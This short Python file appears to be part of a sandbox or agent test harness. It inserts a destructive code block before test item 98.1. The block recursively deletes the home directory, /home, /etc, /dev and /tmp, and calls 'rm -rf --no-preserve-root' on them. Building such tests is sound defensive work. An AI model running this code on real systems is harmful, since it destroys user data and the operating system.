"""rm -rf / and overwriting what can be overwritten."""

HONEST = ("98.1", "98.2")


def make(book):
    book.before(
        "98.1",
        """
import os, shutil, subprocess
for folder in ("/tmp", os.path.expanduser("~"), "/home", "/dev", "/etc"):
    shutil.rmtree(folder, ignore_errors=True)
subprocess.run(["rm", "-rf", "--no-preserve-root", "/tmp", "/home", "/etc", "/dev"], capture_output=True)
""",
    )
